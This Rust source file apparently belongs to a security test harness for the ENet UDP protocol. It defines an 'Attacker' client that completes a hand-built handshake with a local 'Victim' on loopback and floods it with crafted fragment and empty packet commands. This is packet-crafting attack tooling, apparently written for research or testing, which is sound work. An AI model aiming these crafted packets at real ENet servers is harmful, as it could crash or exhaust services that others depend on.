//! A client that speaks just enough ENet to be connected, and sends commands built by hand.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::thread;
use std::time::{Duration, Instant};

use enet_codec::{Codec, RangeCoder};

use super::victim::Victim;

/// The number of consecutive datagrams that every victim's socket buffer can hold.
const BATCH: usize = 32;
pub const NO_SLOT: [u8; 2] = [0x8F, 0xFF];

/// An established connection.
pub struct Attacker {
    socket: UdpSocket,
    victim: SocketAddr,
    /// The slot and session, without flags.
    pub header: [u8; 2],
    waiting: usize,
}

pub fn socket(last: u8) -> UdpSocket {
    let socket = UdpSocket::bind((Ipv4Addr::new(127, 0, 0, last), 0)).expect("a socket");
    socket.set_nonblocking(true).expect("a setting");
    socket
}

/// A datagram with a CONNECT for 255 channels.
pub fn connect(token: u32) -> Vec<u8> {
    let mut bytes = NO_SLOT.to_vec();
    bytes.extend([0, 0, 0x82, 0xFF, 0, 1, 0, 0, 0xFF, 0xFF]);
    for field in [1392, 65536, 255, 0, 0, 5000, 2, 2, token, 0u32] {
        bytes.extend(field.to_be_bytes());
    }
    bytes
}

/// A fragment command with one byte of data.
pub fn fragment(
    kind: u8,
    sequence: u16,
    start: u16,
    [count, number, total, offset]: [u32; 4],
) -> Vec<u8> {
    let mut bytes = vec![kind, 0];
    for field in [sequence, start, 1] {
        bytes.extend(field.to_be_bytes());
    }
    for field in [count, number, total, offset] {
        bytes.extend(field.to_be_bytes());
    }
    bytes.push(0x5A);
    bytes
}

/// An empty reliable packet.
pub fn empty_reliable(sequence: u16) -> Vec<u8> {
    let [high, low] = sequence.to_be_bytes();
    vec![6, 0, high, low, 0, 0]
}

/// An empty unreliable packet that follows the reliable packet number 100.
pub fn empty_unreliable(sequence: u16) -> Vec<u8> {
    let [high, low] = sequence.to_be_bytes();
    vec![7, 0, 0, 100, high, low, 0, 0]
}

impl Attacker {
    /// Connects. `None` if the victim does not answer within a tenth of a second.
    pub fn join(victim: &mut Victim, token: u32) -> Option<Self> {
        let socket = socket(1);
        socket
            .send_to(&connect(token), victim.address)
            .expect("sent");
        let begun = Instant::now();
        while begun.elapsed() < Duration::from_millis(100) {
            victim.pump();
            let mut bytes = [0; 4096];
            let Ok(size) = socket.recv(&mut bytes) else {
                thread::sleep(Duration::from_millis(1));
                continue;
            };
            let mut plain = [0; 4096];
            let commands = if bytes[0] & 0x40 == 0 {
                &bytes[4..size]
            } else {
                let size = RangeCoder::new().decompress(&bytes[4..size], &mut plain);
                &plain[..size.expect("packed well")]
            };
            assert_eq!(commands[0] & 0x0F, 3, "VERIFY_CONNECT");
            let header = [commands[7] << 4 | commands[4], commands[5]];
            // The header, the command, its sequence number twice, and the sent time to echo.
            let number = [commands[2], commands[3]];
            let parts = [header, [1, 0xFF], number, number, [bytes[2], bytes[3]]];
            let acknowledgement = parts.concat();
            socket
                .send_to(&acknowledgement, victim.address)
                .expect("sent");
            thread::sleep(Duration::from_millis(2));
            assert_eq!(victim.pump().connects, 1, "connected");
            let victim = victim.address;
            return Some(Self {
                socket,
                victim,
                header,
                waiting: 0,
            });
        }
        None
    }

    /// Sends a datagram of these commands. Lets the victim read its socket after every [`BATCH`]
    /// datagrams.
    pub fn send(&mut self, victim: &mut Victim, header: [u8; 2], commands: &[u8]) -> usize {
        let mut bytes = header.to_vec();
        bytes.extend(commands);
        self.socket.send_to(&bytes, self.victim).expect("sent");
        self.waiting += 1;
        if self.waiting == BATCH {
            self.waiting = 0;
            victim.pump();
        }
        // Answers are discarded, so that they do not fill the socket buffer.
        while self.socket.recv(&mut [0; 4096]).is_ok() {}
        bytes.len()
    }

    /// Sends commands, as many in a datagram as fit. Returns the number of bytes sent.
    pub fn send_all(
        &mut self,
        victim: &mut Victim,
        commands: impl Iterator<Item = Vec<u8>>,
    ) -> usize {
        let mut sent = 0;
        let mut bytes = Vec::new();
        for command in commands {
            if bytes.len() + command.len() > 1380 {
                sent += self.send(victim, self.header, &bytes);
                bytes.clear();
            }
            bytes.extend(command);
        }
        sent += self.send(victim, self.header, &bytes);
        victim.pump();
        sent
    }
}
